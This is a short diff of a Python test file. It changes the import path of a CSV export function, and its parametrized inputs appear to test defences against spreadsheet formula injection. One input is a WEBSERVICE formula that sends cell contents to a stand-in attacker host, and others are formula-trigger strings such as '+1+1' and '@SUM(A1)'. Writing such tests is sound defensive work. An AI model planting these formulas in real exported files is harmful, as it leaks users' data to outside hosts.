@@ -9,7 +9,7 @@ import io
 import pytest
 
 from services.chassis.csvfile import csv_text
-from services.gateway.api.analytics import as_csv
+from services.gateway.reports import as_csv
 
 
 @pytest.mark.parametrize("text", ['=WEBSERVICE("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)",
